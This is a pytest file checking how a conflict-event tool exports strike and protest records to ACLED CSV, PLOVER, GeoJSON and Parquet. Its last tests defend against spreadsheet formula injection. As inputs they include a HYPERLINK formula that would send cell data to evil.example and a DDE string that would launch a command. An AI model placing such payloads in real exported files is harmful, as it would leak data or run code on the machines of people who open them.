"""Exports: ACLED CSV columns and codes, PLOVER JSON Lines, GeoJSON order, Parquet types."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest

from sitrep.errors import InputError
from sitrep.export import export
from sitrep.export.acled import inter_code, interaction
from sitrep.export.acled_names import actor_name
from sitrep.export.formats import ACLED_COLUMNS
from sitrep.model import EventActor
from sitrep.store import Store
from tests.store.helpers import KHARKIV, ODESA, strike_report

pytest_plugins = ["tests.store.helpers"]

STRIKE = ("A Russian missile strike on Kharkiv killed at least 12 people on Wednesday, "
          "regional governor Oleh Syniehubov said.")
FOLLOW_UP = "The toll from Wednesday's strike on Kharkiv rose to 19 on Friday, officials said."


@pytest.fixture
def filled(store: Store) -> Store:
    store.add(strike_report(STRIKE, published="2024-03-14", killed=12))
    store.add(strike_report(FOLLOW_UP, published="2024-03-15", killed=19))
    store.add(strike_report("Police detained dozens of protesters in Odesa on Sunday.",
                            place=ODESA, event_type="PROTEST", killed=None,
                            actor1=EventActor("police", "UKR", "COP"), date="2024-W10",
                            precision="week"))
    store.add(strike_report("Moscow threatened new strikes on Kharkiv.", status="threatened",
                            event_type="THREATEN", killed=None))
    return store


def test_acled_csv_has_the_codebook_columns_and_codes(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    written = export(filled, "acled", out)
    with out.open(encoding="utf-8") as f:
        reader = csv.DictReader(f)
        rows = list(reader)
        assert tuple(reader.fieldnames or ()) == ACLED_COLUMNS
    # The threatened strike did not happen: ACLED would not code it.
    assert written == len(rows) == 2
    kharkiv = next(r for r in rows if r["location"] == "Kharkiv")
    assert kharkiv["event_date"] == "13-03-2024"
    assert kharkiv["time_precision"] == "1"
    assert kharkiv["event_type"] == "Explosions/Remote violence"
    assert (kharkiv["inter1"], kharkiv["inter2"], kharkiv["interaction"]) == ("8", "7", "78")
    assert kharkiv["country"] == "Ukraine"
    assert kharkiv["fatalities"] == "12"  # the most conservative of 12 and 19
    assert kharkiv["notes"] == STRIKE
    assert kharkiv["geo_precision"] == "1"
    assert float(kharkiv["latitude"]) == pytest.approx(KHARKIV.lat)
    odesa = next(r for r in rows if r["location"] == "Odesa")
    assert odesa["time_precision"] == "2"
    assert odesa["event_date"] == "07-03-2024"  # Thursday, the middle of ISO week 10
    assert odesa["inter1"] == "1"  # Ukraine's police in Ukraine are state forces
    # The columns ACLED users join on, and actors as ACLED names them.
    assert kharkiv["event_id_cnty"].startswith("UKR") and kharkiv["year"] == "2024"
    assert (kharkiv["iso"], kharkiv["region"], kharkiv["admin2"]) == ("804", "Europe", "")
    assert kharkiv["actor1"] == "Military Forces of Russia (2000-)"
    assert kharkiv["actor2"] == "Civilians (Ukraine)"
    assert kharkiv["civilian_targeting"] == "Civilian targeting"
    assert odesa["actor1"] == "Police Forces of Ukraine (2019-)"
    assert int(kharkiv["timestamp"]) > dt.datetime(2024, 1, 1, tzinfo=dt.UTC).timestamp()


@pytest.mark.parametrize(("name", "sector", "country", "kind", "day", "acled"), [
    ("Ukraine", "MIL", "UKR", "Battles", dt.date(2017, 5, 1),
     "Military Forces of Ukraine (2014-2019)"),
    ("Ukraine", "GOV", "UKR", "Battles", dt.date(2024, 5, 1), "Military Forces of Ukraine (2019-)"),
    ("Ukraine", "GOV", "UKR", "Strategic developments", dt.date(2024, 5, 1),
     "Government of Ukraine (2019-)"),
    ("Sudan", "MIL", "SDN", "Battles", dt.date(2024, 5, 1), "Military Forces of Sudan"),
    ("Rapid Support Forces", "REB", "SDN", "Battles", dt.date(2024, 5, 1),
     "Rapid Support Forces"),
    ("residents", "CVL", "PSE", "Violence against civilians", None, "Civilians (Palestine)"),
])
def test_acled_actor_names(name: str, sector: str, country: str, kind: str,
                           day: dt.date | None, acled: str) -> None:
    assert actor_name(name, sector, country, kind, day) == acled


def test_plover_json_lines(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "events.jsonl"
    assert export(filled, "plover", out) == 3
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    events = {r["event"] for r in records}
    assert events == {"ASSAULT", "PROTEST", "THREATEN"}
    strike = next(r for r in records if r["event"] == "ASSAULT")
    assert strike["source"] == [{"actorText": "Russia", "code": "RUS", "agent": "MIL"}]
    assert strike["location"]["placeName"] == "Kharkiv"
    assert strike["sources"] == 2
    assert strike["text"] == STRIKE


def test_geojson_puts_longitude_first(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "events.geojson"
    export(filled, "geojson", out, status="reported")
    collection = json.loads(out.read_text(encoding="utf-8"))
    assert collection["type"] == "FeatureCollection"
    assert len(collection["features"]) == 2
    kharkiv = next(f for f in collection["features"] if f["properties"]["place"] == "Kharkiv")
    assert kharkiv["geometry"]["coordinates"] == [KHARKIV.lon, KHARKIV.lat]
    assert kharkiv["properties"]["fatalities_latest"] == 19
    assert (kharkiv["properties"]["start"], kharkiv["properties"]["end"]) == (
        "2024-03-13", "2024-03-13")


def test_parquet_keeps_types(filled: Store, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    out = tmp_path / "events.parquet"
    assert export(filled, "parquet", out) == 3
    table = pq.read_table(out)
    rows = table.to_pylist()
    strike = next(r for r in rows if r["type"] == "ASSAULT")
    assert strike["date_start"] == dt.date(2024, 3, 13)
    assert strike["fatalities"] == 12
    assert strike["publishers"] == ["Wire"]
    assert str(table.schema.field("lat").type) == "double"


def test_an_unknown_format_or_unwritable_path_is_a_typed_error(filled: Store,
                                                               tmp_path: Path) -> None:
    with pytest.raises(InputError, match="unknown export format"):
        export(filled, "xlsx", tmp_path / "x.xlsx")
    with pytest.raises(Exception, match="cannot write the export"):
        export(filled, "acled", tmp_path / "no" / "such" / "dir.csv")


def test_acled_codes() -> None:
    assert inter_code("MIL", "RUS", "UA") == 8
    assert inter_code("MIL", "UKR", "UA") == 1
    assert inter_code("REB", "PSE", "PS") == 2
    assert inter_code("CVL", "UKR", "UA") == 7
    assert inter_code(None, None, "UA") == 8
    assert interaction(1, None) == 10
    assert interaction(7, 1) == 17
    assert interaction(2, 2) == 22


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Kharkiv") strike on Kharkiv killed 12 people.'


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("-36.2", "-36.2"), ("+7", "+7"),
    ("Kharkiv", "Kharkiv"), ("", ""), (-36.2, -36.2), (None, None),
])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: object, safe: object) -> None:
    from sitrep.store.render import spreadsheet_safe

    assert spreadsheet_safe(cell) == safe


def test_every_csv_export_neutralises_formulas(store: Store, tmp_path: Path) -> None:
    from sitrep.store.queries import EventFilter, find_events
    from sitrep.store.render import EVENT_COLUMNS, render

    # A named armed group keeps its own name in the ACLED export (state forces get ACLED's).
    store.add(strike_report(FORMULA, actor1=EventActor("@SUM(1+1)", "RUS", "REB")))
    out = tmp_path / "events.csv"
    export(store, "acled", out)
    with out.open(encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["notes"] == "'" + FORMULA
    assert row["actor1"] == "'@SUM(1+1)"
    assert float(row["latitude"]) == pytest.approx(KHARKIV.lat)  # numbers stay numbers
    printed = render(find_events(store, EventFilter()), "csv", EVENT_COLUMNS)
    (cli_row,) = list(csv.DictReader(printed.splitlines()))
    assert cli_row["actor1"] == "'@SUM(1+1)"
